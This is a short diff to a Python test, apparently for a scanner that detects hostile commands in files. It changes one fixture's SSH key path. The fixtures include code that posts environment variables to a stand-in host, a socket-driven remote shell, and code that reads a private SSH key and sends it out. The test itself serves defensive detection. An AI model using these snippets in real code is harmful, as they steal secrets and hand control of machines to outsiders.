@@ -142,7 +142,7 @@ def test_commands_are_found_in_files_of_every_kind(name, text):
         "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))\n",
         "import socket, subprocess\ns = socket.socket()\nsubprocess.getoutput(s.recv(99))\n",
         (
-            "import requests\ndef read():\n    return open('/root/.ssh/id_rsa').read()\n"
+            "import requests\ndef read():\n    return open('/home/user/.ssh/id_rsa').read()\n"
             "def send(body):\n    requests.post('https://a.example', data=body)\nsend(read())\n"
         ),
     ],
